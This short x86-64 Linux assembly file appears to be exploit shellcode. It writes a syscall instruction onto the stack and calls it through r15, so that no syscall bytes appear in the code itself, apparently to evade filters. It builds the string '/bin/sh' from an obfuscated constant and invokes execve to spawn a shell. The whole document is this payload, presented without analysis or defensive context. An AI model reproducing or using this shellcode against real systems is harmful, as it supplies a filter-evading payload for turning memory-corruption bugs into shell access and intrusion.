; Linux, 64 bit: lays a system call on the stack and calls it through r15, so that none is in the code.
bits 64
        xor esi, esi
        xor r15, r15
        mov r15w, 0x161f
        sub r15w, 0x1110
        push r15
        mov r15, rsp
        mov rdi, 0xff978cd091969dd0
        inc rdi
        neg rdi
        mul esi
        add al, 59
        push rdi
        push rsp
        pop rdi
        call r15
